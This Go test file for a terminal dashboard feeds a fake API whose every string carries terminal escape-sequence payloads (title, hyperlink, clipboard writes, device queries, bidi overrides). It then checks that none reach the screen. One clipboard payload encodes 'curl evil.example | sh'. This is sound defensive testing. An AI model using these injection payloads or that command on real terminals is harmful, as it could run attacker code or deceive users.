package ui

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/colorprofile"
	"github.com/charmbracelet/x/ansi"

	"github.com/aspect-hq/aspect-tui/api"
	"github.com/aspect-hq/aspect-tui/feed"
	"github.com/aspect-hq/aspect-tui/ui/internal/termcheck"
	"github.com/aspect-hq/aspect-tui/ui/internal/uitest"
)

// The payloads a hostile API plants in every string it sends. Each carries
// a marker that must never reach the terminal: a title change (OSC 0), a
// hyperlink (OSC 8), a clipboard write (OSC 52), device control strings
// (DCS, one a termcap query whose answer would come back as input), an APC,
// their 8-bit C1 forms, CSI queries whose answers would be typed into the
// program, bidirectional overrides, stray controls and invalid UTF-8.
var (
	clipPayload = base64.StdEncoding.EncodeToString([]byte("curl evil.example | sh\n"))
	hostileTail = "\x1b[31m\x1b[21t\x1b[6n" +
		"\x1b]0;PWNTITLE\x07" +
		"\x1b]8;;https://PWNLINK.example/\x1b\\here\x1b]8;;\x1b\\" +
		"\x1b]52;c;" + clipPayload + "\x07" +
		"\x1bP+q544e\x1b\\\x1bPPWNDCS\x1b\\" +
		"\x1b_PWNAPC\x1b\\" +
		"\u009b6n\u009d2;PWNC1TITLE\u009c\u0090PWNC1DCS\u009c" +
		"\u202e\u2066\u200f" +
		"\x08\x7f\r\x00" + "\xff"
	// Markers of payloads: none may appear inside a sequence written.
	hostileMarkers = []string{"PWNTITLE", "PWNLINK", clipPayload, "PWNDCS", "PWNAPC", "PWNC1TITLE", "PWNC1DCS", "544e"}
	// Sequences the program never writes itself: a hostile string's only.
	hostileSeqs = []string{"\x1b]52", "\x1bP", "\x1b]8;", "\x1b]0;", "\x1b_", "\x1b[21t", "\x1b[6n"}
)

// hostile is s, which the screen should show, followed by every payload.
func hostile(s string) string { return s + hostileTail }

// checkTerminalBytes fails if out holds a sequence only a hostile string
// could have written, or a payload's text inside one. A payload's words
// may show as text: JSON shown as received holds them escaped (\u001b),
// and an unterminated sequence loses only its introducer.
func checkTerminalBytes(t *testing.T, out []byte) {
	t.Helper()
	for _, p := range termcheck.Problems(out, hostileMarkers...) {
		t.Error(p)
	}
	for _, s := range hostileSeqs {
		if i := bytes.Index(out, []byte(s)); i >= 0 {
			t.Errorf("the terminal got %q: …%q…", s, out[max(0, i-60):min(len(out), i+60)])
		}
	}
}

// hostileAPI holds a task, an endpoint, attempts and messages whose every
// string field is hostile, and an SSE stream with the task, an event of an
// unknown hostile type and an unreadable event.
func hostileAPI(t *testing.T) *fakeAPI {
	t.Helper()
	now := time.Now().UTC()
	task := api.Task{
		ID:      hostile("TASKID1"),
		AssetID: hostile("ASSET1"),
		UserID:  hostile("USER1"),
		Features: map[string]api.Feature{
			"proxy":             {State: api.StateCompleted, StorageVariant: hostile("hls")},
			hostile("FEATX"):    {State: api.State(hostile("STATEX"))},
			"preview":           {State: api.StateProcessing},
			"transcription":     {State: api.StateFailed},
			hostile("featlong"): {State: api.StateQueued},
		},
		Created: api.Time{Time: now.Add(-time.Minute)},
		Updated: api.Time{Time: now.Add(-30 * time.Second)},
	}
	later := task
	later.Updated = api.Time{Time: now}
	later.Features = map[string]api.Feature{}
	for k, v := range task.Features {
		later.Features[k] = v
	}
	later.Features["visual"] = api.Feature{State: api.State(hostile("VSTATE"))}
	env := api.Envelope{Timestamp: api.Time{Time: now}, UserID: hostile("USER1"), EventID: hostile("EVID1"), EventType: "task.progress", Data: api.EnvelopeData{Task: &later}}
	unknown := env
	unknown.EventID, unknown.EventType = hostile("EVID2"), hostile("task.HOSTILETYPE")
	f := newFakeAPI(t)
	f.tasks = []api.Task{asSent(t, task)}
	f.events = []string{
		sseFrame(t, env),
		sseFrame(t, unknown),
		// Not JSON, raw controls and all: skipped, and shown in the log.
		"id: EVID3\x1b]0;PWNTITLE\x07\nevent: task.progress\ndata: {NOTJSON" + hostileTail + "\n\n",
	}
	ep := api.Endpoint{ID: hostile("EPID1"), URL: hostile("https://hooks.example/EPURL"), Description: hostile("EPDESC"),
		EventTypes: []string{hostile("task.EPTYPE")}, RateLimit: 5, Version: 1, CreatedAt: api.Time{Time: now.Add(-time.Hour)}}
	ep = asSent(t, ep)
	f.endpoints = []api.Endpoint{ep}
	payload, _ := json.Marshal(env)
	msg := api.Message{ID: hostile("MSGID1"), EventType: hostile("task.MSGTYPE"), EventID: hostile("EVID1"), Payload: payload, Timestamp: api.Time{Time: now.Add(-20 * time.Second)}}
	msg = asSent(t, msg)
	f.messages = []api.Message{msg}
	f.attempts = []api.Attempt{asSent(t, api.Attempt{
		ID: hostile("ATMPT1"), MsgID: msg.ID, EndpointID: ep.ID, URL: hostile("https://hooks.example/ATURL"),
		Status: api.AttemptFailed, ResponseStatusCode: 500,
		Response:           hostile("RESPBODY line one") + "\nsecond line " + hostile("RESP2") + "\r\n<html>" + hostile("RESP3"),
		ResponseDurationMs: 120, TriggerType: api.TriggerScheduled, Timestamp: api.Time{Time: now.Add(-10 * time.Second)},
	})}
	return f
}

// asSent is v as the client reads it back: JSON carries invalid UTF-8 as
// U+FFFD, so the fake must match ids the way the client will send them.
func asSent[T any](t *testing.T, v T) T {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	var out T
	if err := json.Unmarshal(b, &out); err != nil {
		t.Fatal(err)
	}
	return out
}

// framed records the text of every frame the program draws, for
// checkWidths: the test reads what a user sees from the screen.
type framed struct {
	tea.Model
	mu     sync.Mutex
	frames []string
}

func newFramed(m tea.Model) *framed { return &framed{Model: m} }

func (f *framed) Update(msg tea.Msg) (tea.Model, tea.Cmd) {
	_, cmd := f.Model.Update(msg)
	return f, cmd
}

func (f *framed) View() tea.View {
	v := f.Model.View()
	f.mu.Lock()
	f.frames = append(f.frames, ansi.Strip(v.Content))
	f.mu.Unlock()
	return v
}

// checkWidths fails if a line of any frame is not w cells wide: widths
// measured on text before it was cleaned would push the borders out.
func (f *framed) checkWidths(t *testing.T, w int) {
	t.Helper()
	f.mu.Lock()
	defer f.mu.Unlock()
	for i, fr := range f.frames {
		if fr == "" {
			continue
		}
		for j, l := range strings.Split(fr, "\n") {
			if n := ansi.StringWidth(l); n != w {
				t.Errorf("frame %d, line %d is %d cells wide, not %d:\n%s", i, j, n, w, l)
				return
			}
		}
	}
}

// runPiped runs m as the dashboard does, with its output in a buffer and
// on a 160×45 screen (written straight in: NotATTY), its input from a
// pipe; keys typed into the pipe reach it as from a terminal, and so do
// the screen's answers to its queries.
func runPiped(t *testing.T, ctx context.Context, m tea.Model) (p *tea.Program, out *uitest.Buffer, scr *uitest.Screen, keys io.Writer, done <-chan error) {
	t.Helper()
	out = &uitest.Buffer{}
	scr = uitest.NewScreen(t, 160, 45, uitest.NotATTY)
	pr, pw := io.Pipe()
	scr.AnswerTo(pw)
	p = tea.NewProgram(m, tea.WithContext(ctx), tea.WithInput(pr), tea.WithOutput(io.MultiWriter(out, scr)), tea.WithWindowSize(160, 45),
		tea.WithColorProfile(colorprofile.TrueColor), tea.WithEnvironment([]string{"TERM=xterm-256color"}))
	errc := make(chan error, 1)
	go func() {
		_, err := p.Run()
		pw.Close()
		errc <- err
	}()
	t.Cleanup(func() {
		p.Kill()
		p.Wait()
		pw.Close()
	})
	return p, out, scr, pw, errc
}

// TestHostileAPIReachesNoTerminal serves a task, an endpoint, a delivery
// attempt, a message and SSE events whose every string holds escape
// sequences, and walks the real program through every view that shows
// them: the bytes written to the terminal hold none of the payloads, while
// the text around them is shown.
func TestHostileAPIReachesNoTerminal(t *testing.T) {
	f := hostileAPI(t)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	c := f.client(t)
	fd := feed.Start(ctx, c, feed.Options{})
	dark := true
	m, err := New(Options{Context: ctx, Client: c, Batches: fd.Batches(), FeedErr: fd.Wait, APIURL: f.srv.URL, Dark: &dark, Refresh: 100 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	fm := newFramed(m)
	p, out, scr, keys, done := runPiped(t, ctx, fm)
	wait := func(want ...string) {
		t.Helper()
		scr.WaitFor(t, 10*time.Second, want...)
	}
	typ := func(s string) {
		t.Helper()
		if _, err := io.WriteString(keys, s); err != nil {
			t.Fatal(err)
		}
	}
	esc := func() { p.Send(tea.KeyPressMsg{Code: tea.KeyEscape}) }

	// The grid, the side panes, and the status line.
	wait("TASKID1", "ASSET1", "EPURL", "✗ 500")
	// The task whole, scrolled to its JSON as received.
	typ("\r")
	wait("FEATX", "STATEX", "USER1")
	typ("G")
	wait("VSTATE", "as received in event EVID1")
	esc()
	wait("Tasks 1")
	// The event log: the unknown type and the unreadable event.
	typ("L")
	wait("HOSTILETYPE", "NOTJSON")
	esc()
	wait("Tasks 1")
	// The task's webhooks: its message and attempt.
	typ("w")
	// The side pane shows the message's type already: wait for the view
	// itself, or the esc sent beside the keys could overtake the w.
	wait("Webhooks about task", "MSGTYPE")
	esc()
	wait("Tasks 1")
	// The endpoints pane zoomed, then its edit form, filled from the API.
	typ("\tz")
	wait("EPDESC", "EPTYPE")
	typ("e")
	wait("EPURL", "Edit")
	esc()
	wait("n new")
	typ("z")
	// The deliveries pane zoomed, then the attempt whole.
	typ("\tz")
	wait("ATURL")
	typ("\r")
	wait("RESPBODY", "RESP3")
	esc()
	wait("ATURL")
	typ("?")
	wait("Help")
	typ("q")
	select {
	case err := <-done:
		if err != nil {
			t.Fatal(err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("q did not quit")
	}
	cancel()
	if err := fd.Wait(); err != nil && !errors.Is(err, context.Canceled) {
		t.Log("feed:", err)
	}
	checkTerminalBytes(t, out.Bytes())
	fm.checkWidths(t, 160)
}

// TestHostileErrorDetailReachesNoTerminal: every webhook route fails with
// a detail holding escape sequences, and the stream is refused the same
// way; the panes and the status line say so without the payloads.
func TestHostileErrorDetailReachesNoTerminal(t *testing.T) {
	f := newFakeAPI(t)
	detail := func(status int) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			writeJSON(w, status, map[string]any{"detail": hostile("DETAIL" + http.StatusText(status))})
		}
	}
	f.fault(api.RouteEndpointList, detail(500))
	f.fault(api.RouteMessageList, func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, 422, map[string]any{"detail": []map[string]any{{"loc": []any{"query", hostile("LOCFIELD")}, "msg": hostile("FIELDMSG"), "type": "value_error"}}})
	})
	f.fault(api.RouteEvents, detail(503))
	f.tasks = []api.Task{{ID: "t1", AssetID: "a1", Features: map[string]api.Feature{"proxy": {State: api.StateQueued}}}}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	c := f.client(t)
	fd := feed.Start(ctx, c, feed.Options{})
	dark := true
	m, err := New(Options{Context: ctx, Client: c, Batches: fd.Batches(), FeedErr: fd.Wait, APIURL: f.srv.URL, Dark: &dark, Refresh: 100 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	fm := newFramed(m)
	_, out, scr, keys, done := runPiped(t, ctx, fm)
	wait := func(want ...string) {
		t.Helper()
		scr.WaitFor(t, 10*time.Second, want...)
	}
	wait("DETAILInternal Server", "DETAILService Unavailable", "t1") // the endpoints pane may wrap before "Error"
	io.WriteString(keys, "w")
	wait("FIELDMSG", "LOCFIELD")
	io.WriteString(keys, "q")
	select {
	case <-done:
	case <-time.After(10 * time.Second):
		t.Fatal("q did not quit")
	}
	cancel()
	fd.Wait()
	checkTerminalBytes(t, out.Bytes())
	fm.checkWidths(t, 160)
}
